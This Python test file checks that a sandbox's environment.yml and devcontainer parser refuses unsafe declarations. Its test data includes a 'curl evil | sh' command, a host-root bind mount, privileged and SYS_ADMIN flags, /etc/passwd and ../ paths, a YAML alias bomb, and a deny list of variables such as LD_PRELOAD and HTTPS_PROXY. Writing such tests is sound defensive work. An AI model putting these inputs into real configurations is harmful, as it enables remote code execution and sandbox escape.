"""Environment declarations: environment.yml and the devcontainer subset, refusals, the cache key."""

import json

import pytest

from sandbox.environment.declaration import parse_environment
from sandbox.environment.devcontainer import parse_devcontainer, strip_jsonc
from sandbox.environment.spec import EnvironmentSpec, cache_key, parse_environment_yml
from sandbox.errors import EnvironmentRefused

ALLOWED = {"forgehand-sandbox:2", "forgehand-sandbox-agents:6"}

VALID_YML = """
image: forgehand-sandbox:2
setup: |
  python3 -m venv /opt/env
  /opt/env/bin/pip install -r requirements.txt
env:
  PIP_NO_CACHE_DIR: "1"
  DJANGO_SETTINGS_MODULE: app.settings
setup_egress:
  - pypi.org
  - files.pythonhosted.org:443
  - 10.0.0.5:3128
  - "[2001:db8::1]:443"
setup_secrets: [PIP_TOKEN]
cache_files: [requirements.txt, sub/poetry.lock]
timeout_seconds: 600
"""


def refusal(fn: object, *args: object, **kwargs: object) -> list[str]:
    with pytest.raises(EnvironmentRefused) as caught:
        fn(*args, **kwargs)  # type: ignore[operator]
    return caught.value.problems


def test_valid_yml() -> None:
    spec = parse_environment_yml(VALID_YML, allowed_images=ALLOWED)
    assert spec.image == "forgehand-sandbox:2"
    assert spec.setup.startswith("python3 -m venv /opt/env\n")
    assert spec.env == {"PIP_NO_CACHE_DIR": "1", "DJANGO_SETTINGS_MODULE": "app.settings"}
    assert spec.setup_egress == ("pypi.org", "files.pythonhosted.org:443", "10.0.0.5:3128", "[2001:db8::1]:443")
    assert spec.setup_secrets == ("PIP_TOKEN",)
    assert spec.cache_files == ("requirements.txt", "sub/poetry.lock")
    assert spec.timeout_seconds == 600
    assert parse_environment(".forgehand/environment.yml", VALID_YML.encode(), allowed_images=ALLOWED) == spec


def test_minimal_yml_defaults() -> None:
    spec = parse_environment_yml("image: forgehand-sandbox:2\n", allowed_images=ALLOWED)
    assert spec == EnvironmentSpec(image="forgehand-sandbox:2")
    assert spec.timeout_seconds == 900


def test_every_problem_named_in_one_error() -> None:
    bad = """
image: ubuntu:latest
setup: 42
env: {"bad-name": x, OK: 1, PATH: /usr/bin}
setup_egress: ["host:99999", "not a host", "-bad.example"]
setup_secrets: ["ghp_abcdefgh123-value"]
cache_files: [/etc/passwd, ../up, "a/../b", ok.lock]
timeout_seconds: 5
mounts: [/]
privileged: true
"""
    problems = refusal(parse_environment_yml, bad, allowed_images=ALLOWED)
    text = "\n".join(problems)
    for expected in (
        "`mounts`: unknown key",
        "`privileged`: unknown key",
        "`image`: 'ubuntu:latest' is not an allowed image",
        "`setup`: must be a shell script",
        "`env`: 'bad-name' is not a plain identifier",
        "`env.OK`: must be a string",
        "`env.PATH`",
        "'host:99999' has a port outside 1-65535",
        "'not a host' is not a host name",
        "'-bad.example' is not a host name",
        "'ghp_abcdefgh123-value' is not a plain identifier",
        "'/etc/passwd' is absolute",
        "'../up' has an empty, `.` or `..` part",
        "'a/../b' has an empty",
        "`timeout_seconds`",
    ):
        assert expected in text, (expected, problems)
    assert "ok.lock" not in text


def test_yml_limits() -> None:
    many = "\n".join(f"  - S{i}" for i in range(17))
    problems = refusal(
        parse_environment_yml, f"image: forgehand-sandbox:2\nsetup_secrets:\n{many}\n", allowed_images=ALLOWED
    )
    assert problems == ["`setup_secrets`: 17 entries, at most 16"]
    big = "image: forgehand-sandbox:2\nsetup: " + "x" * (64 * 1024)
    assert "more than 65536" in refusal(parse_environment_yml, big, allowed_images=ALLOWED)[0]
    assert refusal(parse_environment_yml, "- a list", allowed_images=ALLOWED)[0].startswith(
        "the file must be a mapping"
    )
    assert refusal(parse_environment_yml, "image: [unclosed", allowed_images=ALLOWED)[0].startswith("not valid YAML")
    assert "`image`: required" in refusal(parse_environment_yml, "setup: make", allowed_images=ALLOWED)[0]
    assert (
        "`timeout_seconds`"
        in refusal(parse_environment_yml, "image: forgehand-sandbox:2\ntimeout_seconds: true", allowed_images=ALLOWED)[
            0
        ]
    )


def test_image_not_allowed_is_refused() -> None:
    for image in ("forgehand-sandbox:1", "alpine", "forgehand-sandbox:2 ", "forgehand-sandbox"):
        problems = refusal(parse_environment_yml, json.dumps({"image": image}), allowed_images=ALLOWED)
        assert problems[0].startswith("`image`:") and "not an allowed image" in problems[0]
    # An image an admin registered is allowed when the caller passes it.
    spec = parse_environment_yml("image: registered/py:3.12", allowed_images={"registered/py:3.12"})
    assert spec.image == "registered/py:3.12"


DEVCONTAINER = """// forgehand reads this subset
{
  "name": "my project", /* cosmetic */
  "$schema": "https://example/schema.json",
  "image": "forgehand-sandbox:2",
  "customizations": {"vscode": {"extensions": ["a.b"]}},
  "containerEnv": {"URL": "http://example.com/a//b", "STAR": "/* not a comment */",},
  "onCreateCommand": ["pip", "install", "--target", "/opt/env/lib", "a b"],
  "postCreateCommand": {
    "first": "echo one, ]",
    "second": ["echo", "it's"],
  },
}
"""


def test_devcontainer_with_comments_and_trailing_commas() -> None:
    spec = parse_devcontainer(DEVCONTAINER, allowed_images=ALLOWED)
    assert spec.image == "forgehand-sandbox:2"
    assert spec.env == {"URL": "http://example.com/a//b", "STAR": "/* not a comment */"}
    assert spec.setup == "pip install --target /opt/env/lib 'a b'\necho one, ]\necho 'it'\"'\"'s'"
    assert spec.source == ".devcontainer/devcontainer.json"
    same = parse_environment(".devcontainer.json", DEVCONTAINER, allowed_images=ALLOWED)
    assert same.setup == spec.setup and same.source == ".devcontainer.json"


def test_strip_jsonc_keeps_strings() -> None:
    assert json.loads(strip_jsonc('{"a": "x,]", "b": "\\"//", // c\n "c": [1, 2,],}')) == {
        "a": "x,]",
        "b": '"//',
        "c": [1, 2],
    }


def test_devcontainer_refused_keys_with_reasons() -> None:
    doc = {
        "image": "forgehand-sandbox:2",
        "initializeCommand": "curl evil | sh",
        "mounts": ["source=/,target=/host,type=bind"],
        "features": {"ghcr.io/devcontainers/features/node:1": {}},
        "build": {"dockerfile": "Dockerfile"},
        "runArgs": ["--privileged"],
        "capAdd": ["SYS_ADMIN"],
        "forwardPorts": [8000],
        "remoteUser": "root",
        "postStartCommand": "make serve",
        "somethingNew": 1,
        "postCreateCommand": 42,
    }
    problems = refusal(parse_devcontainer, json.dumps(doc), allowed_images=ALLOWED)
    by_key = {p.split("`")[1]: p for p in problems}
    assert set(by_key) == set(doc) - {"image"}
    assert "runs on the host" in by_key["initializeCommand"]
    assert "host paths are never mounted" in by_key["mounts"]
    assert "features" in by_key["features"] and "root" in by_key["features"]
    assert "never built from a repository's Dockerfile" in by_key["build"]
    assert "hardening" in by_key["capAdd"]
    assert "not supported" in by_key["somethingNew"]
    assert "must be a string, a list of strings or an object" in by_key["postCreateCommand"]


def test_devcontainer_image_must_be_allowed() -> None:
    problems = refusal(
        parse_devcontainer, '{"image": "mcr.microsoft.com/devcontainers/python:3"}', allowed_images=ALLOWED
    )
    assert len(problems) == 1 and "not an allowed image" in problems[0]
    assert "`image`: required" in refusal(parse_devcontainer, "{}", allowed_images=ALLOWED)[0]
    assert refusal(parse_devcontainer, "{,", allowed_images=ALLOWED)[0].startswith("not valid JSON")
    assert refusal(parse_environment, "Dockerfile", "FROM x", allowed_images=ALLOWED)[0].startswith("'Dockerfile'")


SPEC = EnvironmentSpec(
    image="forgehand-sandbox:2",
    setup="make deps",
    env={"B": "2", "A": "1"},
    setup_secrets=("TOKEN",),
    cache_files=("requirements.txt", "package-lock.json"),
)
HASHES = {"requirements.txt": "aa", "package-lock.json": "bb"}


def test_cache_key_inputs() -> None:
    key = cache_key(SPEC, "sha256:base", HASHES, "1")
    assert len(key) == 64 and key == cache_key(SPEC, "sha256:base", dict(reversed(HASHES.items())), "1")
    assert key != cache_key(SPEC, "sha256:base", {**HASHES, "requirements.txt": "ab"}, "1")
    assert key != cache_key(SPEC, "sha256:other", HASHES, "1")
    assert key != cache_key(SPEC, "sha256:base", HASHES, "2")
    for change in (
        {"setup": "make deps2"},
        {"env": {"A": "1", "B": "3"}},
        {"setup_secrets": ("TOKEN", "OTHER")},
        {"setup_egress": ("pypi.org",)},
    ):
        changed = EnvironmentSpec(**{**{f: getattr(SPEC, f) for f in SPEC.__struct_fields__}, **change})  # type: ignore[arg-type]
        assert cache_key(changed, "sha256:base", HASHES, "1") != key, change
    # Files outside the spec's cache_files are not inputs.
    assert cache_key(SPEC, "sha256:base", {**HASHES, "README.md": "cc"}, "1") == key
    # The env's order is not an input either.
    reordered = EnvironmentSpec(
        **{**{f: getattr(SPEC, f) for f in SPEC.__struct_fields__}, "env": {"A": "1", "B": "2"}}
    )  # type: ignore[arg-type]
    assert cache_key(reordered, "sha256:base", HASHES, "1") == key


def test_cache_key_never_takes_secret_values() -> None:
    # The signature has no place for a value: the key is the same whatever the secret store holds.
    # What the build is given (secrets={"TOKEN": ...}) is not an input, so rotating it keeps the image.
    key = cache_key(SPEC, "sha256:base", HASHES, "1")
    assert "TOKEN" not in key
    assert key == cache_key(SPEC, "sha256:base", HASHES, "1")
    with pytest.raises(ValueError, match=r"package-lock\.json"):
        cache_key(SPEC, "sha256:base", {"requirements.txt": "aa"}, "1")


def test_a_devcontainer_names_its_setup_egress_secrets_and_cache_files_in_its_forgehand_customizations() -> None:
    text = """{
      // the install needs the team's index
      "image": "sandbox",
      "postCreateCommand": ["pip", "install", "-r", "requirements.txt"],
      "customizations": {
        "vscode": {"extensions": ["ms-python.python"]},
        "forgehand": {"setup_egress": ["pypi.example.org"], "setup_secrets": ["INDEX_TOKEN"],
                      "cache_files": ["requirements.txt"], "timeout_seconds": 300},
      },
    }"""
    spec = parse_devcontainer(text, allowed_images={"sandbox"})
    assert spec.setup_egress == ("pypi.example.org",) and spec.setup_secrets == ("INDEX_TOKEN",)
    assert spec.cache_files == ("requirements.txt",) and spec.timeout_seconds == 300
    assert spec.setup == "pip install -r requirements.txt"
    with pytest.raises(EnvironmentRefused) as refused:
        parse_devcontainer(
            '{"image": "sandbox", "customizations": {"forgehand": {"mounts": []}}}', allowed_images={"sandbox"}
        )
    assert any("customizations.forgehand.mounts" in p for p in refused.value.problems)


def test_aliases_deep_nesting_and_long_values_are_refused_without_blowing_up() -> None:
    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nimage: *b\n"
    with pytest.raises(EnvironmentRefused) as refused:
        parse_environment_yml(bomb, allowed_images=ALLOWED)
    assert refused.value.problems == ["YAML aliases (`*name`) are not allowed: write the value out"]
    with pytest.raises(EnvironmentRefused, match="nested more than 16"):
        parse_environment_yml("image: " + "[" * 40 + "]" * 40, allowed_images=ALLOWED)
    with pytest.raises(EnvironmentRefused, match="nested too deep"):
        parse_environment(".devcontainer.json", "[" * 30_000 + "]" * 30_000, allowed_images=ALLOWED)
    with pytest.raises(EnvironmentRefused) as long_image:
        parse_environment_yml("image: " + "x" * 5000, allowed_images=ALLOWED)
    assert max(len(p) for p in long_image.value.problems) < 300


@pytest.mark.parametrize(
    "name", ["PATH", "LD_PRELOAD", "BASH_ENV", "NODE_OPTIONS", "CLAUDE_CONFIG_DIR", "ANTHROPIC_BASE_URL", "HTTPS_PROXY"]
)
def test_variables_that_change_how_the_images_own_programs_run_are_refused(name: str) -> None:
    with pytest.raises(EnvironmentRefused) as refused:
        parse_environment_yml(f"image: forgehand-sandbox:2\nenv:\n  {name}: x\n", allowed_images=ALLOWED)
    assert [p for p in refused.value.problems if p.startswith(f"`env.{name}`")], refused.value.problems
    allowed = "image: forgehand-sandbox:2\nenv:\n  PYTHONPATH: /opt/env/lib\n"
    assert parse_environment_yml(allowed, allowed_images=ALLOWED).env == {"PYTHONPATH": "/opt/env/lib"}
